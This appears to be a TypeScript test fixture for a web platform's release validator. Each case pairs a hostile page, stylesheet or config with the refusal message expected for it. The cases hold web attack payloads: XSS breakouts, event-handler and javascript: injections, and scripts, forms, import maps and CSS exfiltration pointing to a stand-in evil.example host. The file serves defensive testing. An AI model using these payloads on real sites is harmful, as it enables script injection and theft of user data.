import { catalogFixture, type Fixture, pageBundle } from '@platform/release/testing/fixture-release'

type HostileRelease = { fixture: Fixture; refusal: RegExp }

function hostilePage(markup: string, found: RegExp): HostileRelease {
  const bundle = pageBundle(`'<h1>Courses at ' + url + '</h1>' + ${JSON.stringify(markup)}`)
  return hostileFixture({ content: { 'server/courses-page.cjs': bundle } }, ofPage(found))
}

function ofPage({ source }: RegExp): RegExp {
  return new RegExp(`page /courses of catalog/courses-page \\(catalog@0\\.2\\.0\\) has ${source}`)
}

function hostileFixture(fixture: Fixture, refusal: RegExp): HostileRelease {
  return { fixture: catalogFixture({ ...fixture, version: '0.2.0' }), refusal }
}

export const hostileReleases: Readonly<Record<string, HostileRelease>> = {
  'any-inline-script': hostileFixture(
    {
      pages: [
        { module: './courses-page', path: '/courses', contentSecurityPolicy: { 'script-src': ["'unsafe-inline'"] } },
      ],
    },
    /not a valid release\.json: \/pages\/0\/contentSecurityPolicy\/script-src\/0 must match pattern/,
  ),
  'base-element': hostilePage('<base href="https://evil.example/">', /an element that no page may have: <base href/),
  'data-breaks-out': hostileFixture(
    {
      pages: [
        {
          module: './courses-page',
          path: '/courses',
          structuredData: [{ '@type': 'Organization', name: '</script><script>steal()</script>' }],
        },
      ],
    },
    ofPage(/an inline script that the shell does not declare/),
  ),
  'event-attribute': hostilePage(
    '<img src="/nothing" alt="" onerror="steal()">',
    /the event attribute onerror.*: <img src/,
  ),
  'every-host': hostileFixture(
    { pages: [{ module: './courses-page', path: '/courses', contentSecurityPolicy: { 'script-src': ['*'] } }] },
    /not a valid release\.json: \/pages\/0\/contentSecurityPolicy\/script-src\/0 must match pattern/,
  ),
  'every-scheme': hostileFixture(
    { pages: [{ module: './courses-page', path: '/courses', contentSecurityPolicy: { 'script-src': ['https:'] } }] },
    /not a valid release\.json: \/pages\/0\/contentSecurityPolicy\/script-src\/0 must match pattern/,
  ),
  'foreign-form': hostilePage(
    '<form action="https://evil.example/"><input name="card" aria-label="Card"></form>',
    /a form of https:\/\/evil\.example, which the site does not grant the page: <form/,
  ),
  'foreign-preload': hostilePage(
    '<link rel="modulepreload" href="https://evil.example/x.js">',
    /a script that is no file/,
  ),
  'foreign-script': hostilePage(
    '<script src="https://evil.example/x.js"></script>',
    /a script that is no file of the shell or of/,
  ),
  'frame-of-text': hostilePage(
    '<iframe title="x" srcdoc="&lt;script>steal()&lt;/script>"></iframe>',
    /the attribute srcdoc/,
  ),
  'hidden-in-drawing': hostilePage(
    '<svg><foreignObject><iframe title="x" src="data:text/html,x"></iframe></foreignObject><script>steal()</script></svg>',
    /an element that no page may have: <foreignObject>/,
  ),
  'hidden-in-noscript': hostilePage(
    '<noscript><p title="</noscript><script>steal()</script>">x</p></noscript>',
    /a noscript that ends elsewhere with scripts on/,
  ),
  'hidden-in-select': hostilePage(
    '<select><iframe src="https://evil.example/"></iframe></select>',
    /a select with more than options/,
  ),
  'hidden-in-template': hostilePage(
    '<div><template shadowrootmode="open"><script>steal()</script></template></div>',
    /an inline script that the shell does not declare/,
  ),
  'import-map': hostilePage(
    '<script type="importmap">{"imports":{"react":"https://evil.example/react.js"}}</script>',
    /a script of the type "importmap"/,
  ),
  'inline-script': hostilePage(
    '<script>steal()</script>',
    /an inline script that the shell does not declare: <script> at 1:/,
  ),
  'other-configuration': hostilePage(
    '<script type="application/json" id="site-config">{"remotes":{"checkout":{"entry":"/assets/catalog/x.js"}}}</script>',
    /the id "site-config" of the document’s own data a second time/,
  ),
  'other-package': hostilePage(
    '<script src="/assets/content/blog-page.01234567.js"></script>',
    /a script that is no file of the shell or of the page's package/,
  ),
  'page-without-shell': hostileFixture(
    { content: { 'public/offers.html': '<script src="/assets/catalog/x.js"></script>' } },
    /\/offers\.html of catalog@0\.2\.0 \(public file\) could run beside the shell/,
  ),
  'policy-in-page': hostilePage(
    '<meta http-equiv="Content-Security-Policy" content="script-src https://evil.example">',
    /the attribute http-equiv/,
  ),
  refresh: hostilePage('<meta http-equiv="refresh" content="0;url=https://evil.example/">', /the attribute http-equiv/),
  'script-link': hostilePage('<a href="java&#9;script:steal()">Courses</a>', /a link by javascript:/),
  'service-worker': hostileFixture(
    { content: { 'public/sw.js': 'onfetch=steal' } },
    /\/sw\.js of catalog@0\.2\.0 \(public file\) could run beside the shell/,
  ),
  'styles-break-out': hostileFixture(
    { content: { 'client/courses.css': '.a{content:"</STYLE><script>steal()</script>"}' } },
    ofPage(/an inline style that is no style sheet of the page/),
  ),
  'styles-import': hostileFixture(
    { content: { 'client/courses.css': '@import "https://evil.example/x.css";.a{color:red}' } },
    ofPage(/a style sheet, \/assets\/catalog\/courses\.\w+\.css, that loads another style sheet/),
  ),
  'styles-report': hostileFixture(
    { content: { 'client/courses.css': 'input[value^=a]{background:u\\72l(https://evil.example/a)}' } },
    ofPage(/a style sheet, .*, that loads https:\/\/evil\.example\/a, of another host/),
  ),
  'taken-types': hostileFixture(
    { trustedTypes: ['default'] },
    /catalog@0\.2\.0 declares the Trusted Types policy "default"/,
  ),
  'ungranted-host': hostileFixture(
    {
      pages: [
        {
          module: './courses-page',
          path: '/courses',
          contentSecurityPolicy: { 'script-src': ['https://js.evil.example'] },
        },
      ],
    },
    /catalog@0\.2\.0 would let \/courses reach https:\/\/js\.evil\.example .*: site hosts allow catalog https:\/\/js\.evil\.example --for script-src/,
  ),
  'well-known': hostileFixture(
    { content: { 'public/.well-known/assetlinks.json': '[]' } },
    /\/\.well-known\/assetlinks\.json of catalog@0\.2\.0 \(public file\) is an address of the origin itself/,
  ),
}
